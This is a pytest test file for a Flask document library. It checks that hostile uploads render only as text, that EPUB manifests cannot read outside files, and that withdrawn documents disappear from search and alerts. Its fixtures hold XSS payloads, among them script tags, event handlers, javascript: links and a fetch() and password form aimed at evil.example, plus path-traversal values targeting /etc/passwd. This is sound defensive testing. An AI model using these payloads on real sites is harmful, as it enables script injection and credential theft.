"""Attacks by way of the pages: what hostile documents say is only text, and who may no longer see a
document finds nothing of it, nowhere."""

from __future__ import annotations

import json
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from app.core import clock
from app.core.db import db
from app.core.jobs import run_pending
from app.home.jobs import tell_of_new
from app.library import child
from app.library.extract.markup import OPEN, read_html
from app.library.extract.office import read_docx
from app.library.extract.printing import Budget, Enough, Printer
from app.library.rules import Kind, Reason
from app.notices.models import Notice
from tests.factories import People, csrf
from tests.library import files
from tests.library.conftest import Librarian

HOSTILE = """<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/r"/>
<base href="https://evil.example/"/><link rel="stylesheet" href="https://evil.example/a.css"/>
<style>body { background: url(https://evil.example/b.png) }</style>
<script>fetch("https://evil.example/c")</script></head>
<body onload="alert(1)"><h1>Ladders &lt;img src=x onerror=alert(2)&gt;</h1>
<p style="background:url(https://evil.example/d.png)" onclick="alert(3)">how to carry ladders</p>
<svg onload="alert(4)"><script>alert(5)</script><image href="https://evil.example/e.svg"/></svg>
<img src="https://evil.example/f.png" onerror="alert(6)"/>
<iframe src="https://evil.example/g"></iframe><object data="https://evil.example/h"></object>
<form action="https://evil.example/i"><input name="password"/><button>send</button></form>
<a href="javascript:alert(7)">press</a> <math><mtext><script>alert(8)</script></mtext></math>
<p>&lt;/section&gt;&lt;script&gt;alert(9)&lt;/script&gt; the end</p></body></html>"""


def word() -> bytes:
    """The words of a document as markup, a link of script, and a picture from elsewhere."""
    said = files.word(
        "# <img src=x onerror=alert(2)>", "how to carry ladders <script>alert(1)</script>"
    )
    link = (
        b'<w:p><w:hyperlink r:id="rEvil"><w:r><w:t>press &lt;svg/onload=alert(3)&gt;</w:t></w:r>'
        b"</w:hyperlink></w:p></w:body>"
    )
    rels = "word/_rels/document.xml.rels"
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    more = (
        f'<Relationship Id="rEvil" Type="{kinds}/hyperlink" Target="javascript:alert(4)" '
        f'TargetMode="External"/><Relationship Id="rPic" Type="{kinds}/image" '
        'Target="https://evil.example/p.png" TargetMode="External"/></Relationships>'
    )
    document = files.entry_of(said, "word/document.xml")
    return files.repacked(
        said,
        {
            "word/document.xml": document.replace(b"</w:body>", link),
            rels: files.entry_of(said, rels).replace(b"</Relationships>", more.encode()),
        },
    )


class Tags(HTMLParser):
    """Every start of a tag in a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def harmless(page: str) -> None:
    for tag, attributes in Tags(page).found:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert (
            tag not in {"svg", "iframe", "object", "base", "math", "style"} or "class" in attributes
        )
        assert attributes.get("http-equiv") is None
        for name, value in attributes.items():
            if name in {"src", "href", "action", "data", "style", "srcdoc"}:
                assert "evil.example" not in (value or ""), (tag, attributes)
                assert not (value or "").startswith("javascript:"), (tag, attributes)
        if tag == "script":
            assert (attributes.get("src") or "").startswith("/static/") or "nonce" in attributes


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (files.epub(HOSTILE), "a.epub"),
        (HOSTILE.replace("<html", "<!DOCTYPE html><html", 1).encode(), "a.html"),
        (word(), "a.docx"),
        (files.slides(("<script>alert(1)</script>", "carry ladders <svg/onload=x>", "")), "a.pptx"),
        (
            files.sheets(**{"<b onclick=x>": [["carry ladders", "<script>x()</script>"]]}),
            "a.xlsx",
        ),
        (
            b"# <script>x()</script>\n\ncarry ladders [x](javascript:x()) <svg/onload=x>",
            "a.md",
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_a_hostile_document_says_is_only_text(
    librarian: Librarian, member: FlaskClient, data: bytes, name: str
) -> None:
    address = librarian.upload(data, name)
    for where in (address, f"{address}?q=ladders", "/search?q=ladders", "/library"):
        answer = member.get(where)
        assert answer.status_code == 200
        harmless(answer.get_data(as_text=True))
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy or "default-src 'self'" in policy
        assert "unsafe-inline" not in policy.partition("script-src")[2].partition(";")[0]
    assert "<mark>ladders</mark>" in member.get("/search?q=ladders").get_data(as_text=True)
    sent = member.get(f"{address}/download", buffered=True)
    assert sent.headers["Content-Disposition"].startswith("attachment")
    assert sent.headers["X-Content-Type-Options"] == "nosniff"


def book(**parts: bytes) -> bytes:
    whole = files.epub("<body><h1>One</h1><p>words of the book</p></body>")
    return files.repacked(whole, {}, **parts)


def manifest(old: str, new: str) -> bytes:
    whole = files.epub("<body><h1>One</h1><p>words of the book</p></body>")
    name = "OEBPS/book.opf"
    changed = files.entry_of(whole, name).replace(old.encode(), new.encode())
    assert changed != files.entry_of(whole, name)
    return files.repacked(whole, {name: changed})


def locked_by(way: str) -> bytes:
    return (
        '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
        'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData>'
        f'<enc:EncryptionMethod Algorithm="{way}"/></enc:EncryptedData></encryption>'
    ).encode()


LOCK = "META-INF/encryption.xml"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (manifest('href="c0.xhtml"', 'href="../../../../../etc/passwd"'), Reason.NO_TEXT),
        (manifest('href="c0.xhtml"', 'href="file:///etc/passwd"'), Reason.NO_TEXT),
        (manifest('href="c0.xhtml"', 'href="https://evil.example/c.xhtml"'), Reason.NO_TEXT),
        (book(**{"../../outside.xhtml": b"x"}), Reason.UNSAFE),
        (book(**{LOCK: locked_by("http://www.w3.org/2001/04/xmlenc#aes256-cbc")}), Reason.PASSWORD),
        (book(**{LOCK: locked_by(OPEN[0])}), None),  # fonts only
    ],
)
def test_a_book_reads_nothing_but_itself(
    tmp_path: Path, data: bytes, reason: Reason | None
) -> None:
    path = tmp_path / "a.epub"
    path.write_bytes(data)
    text = child.read(path, Kind.EPUB, keep_going=lambda: True)
    assert text.reason == reason
    assert "root:" not in "".join(part.text for part in text.parts)


class Short(Budget):
    """Time that is over after some looks at the clock."""

    def __init__(self, looks: int) -> None:
        super().__init__()
        self.looks = looks

    def spend(self, characters: int = 0, *, is_late: bool = False) -> None:
        self.looks -= 1
        if self.looks <= 0 and not is_late:
            raise Enough


def test_of_a_page_without_end_what_was_read_in_time_is_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "a.html"
    cells = "<tr>" + "<td>x</td>" * 100 + "</tr>"
    path.write_text(f"<html><body><h1>Before</h1>words<table>{cells * 400}</table>")
    with pytest.raises(Enough):
        read_html(path, Printer(Short(3)))
    first, *more = map(json.loads, capsys.readouterr().out.splitlines())
    assert (first["label"], first["text"][:5]) == ("Before", "words")
    assert len(more) > 3


def test_of_a_table_without_end_what_was_read_in_time_is_kept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(files.word("# Before", "| a | b |", "| c | d |", "| e | f |"))
    with pytest.raises(Enough):
        read_docx(path, Printer(Short(5)))
    [only] = map(json.loads, capsys.readouterr().out.splitlines())
    assert (only["label"], only["text"][:5]) == ("Before", "a | b")
    assert "e | f" not in only["text"]


def places(address: str) -> tuple[str, ...]:
    return ("/search?q=periscopes", "/search/suggest?q=Subm", "/search?q=Submarines", "/library",
            "/search", address)  # fmt: skip


def shows(client: FlaskClient, address: str) -> list[str]:
    """The places at which a client learns of the document."""
    uuid = address.rpartition("/")[2]
    found = []
    for place in places(address):
        answer = client.get(place)
        text = answer.get_data(as_text=True)
        named = "Submarines" in text and "Submarines" not in place  # the page says what was asked
        if answer.status_code == 200 and (uuid in text or named):
            found.append(place)
    return found


def notices(app: Flask, member_id: int) -> int:
    run_pending(app)
    with app.app_context():
        tell_of_new()
        count = db.session.query(Notice).filter_by(member_id=member_id).count()
        db.session.rollback()
    return count


def test_a_document_that_moves_to_another_branch_is_gone_at_once_and_alerts_nobody_there(
    app: Flask, people: People, librarian: Librarian
) -> None:
    north, south = people.branch("North"), people.branch("South")
    ids = {branch: people.member(branch=branch) for branch in (north, south)}
    clients = {branch: people.client(ids[branch]) for branch in ids}
    for client in clients.values():
        client.post("/search/kept", data={"q": "periscopes"}, headers=csrf(client))

    def move(to: int, **more: object) -> None:
        fields = {"title": "Submarines", "collection": 0, "audience": "branches", "branches": [to]}
        assert librarian.post(f"{address}/edit", **fields, **more).status_code == 302

    address = librarian.upload(
        files.pdf("periscopes and ballast"), "a.pdf", audience="branches", branches=north
    )
    move(north)
    run_pending(app)
    assert shows(clients[north], address)
    assert shows(clients[south], address) == []
    assert (notices(app, ids[north]), notices(app, ids[south])) == (1, 0)
    move(south)  # nothing has told the index yet
    assert shows(clients[north], address) == []
    run_pending(app)
    assert shows(clients[north], address) == []
    assert len(shows(clients[south], address)) == len(places(address))
    move(north)
    assert shows(clients[south], address) == []  # before the alert that was due
    assert notices(app, ids[south]) == 0


@pytest.mark.parametrize("way", ["deleted", "its last day is over"])
def test_a_document_withdrawn_is_found_nowhere_and_no_alert_names_it(
    app: Flask, people: People, librarian: Librarian, way: str
) -> None:
    me = people.member()
    client = people.client(me)
    client.post("/search/kept", data={"q": "periscopes"}, headers=csrf(client))
    address = librarian.upload(files.pdf("periscopes and ballast"), "Submarines.pdf")
    assert len(shows(client, address)) == len(places(address))
    if way == "deleted":
        assert librarian.post(f"{address}/delete").status_code == 302
    else:
        day = (clock.now() - timedelta(days=2)).date().isoformat()
        fields = {"title": "Submarines", "collection": 0, "audience": "all", "valid_until": day}
        assert librarian.post(f"{address}/edit", **fields).status_code == 302
    assert shows(client, address) == []
    assert notices(app, me) == 0
    assert shows(client, address) == []
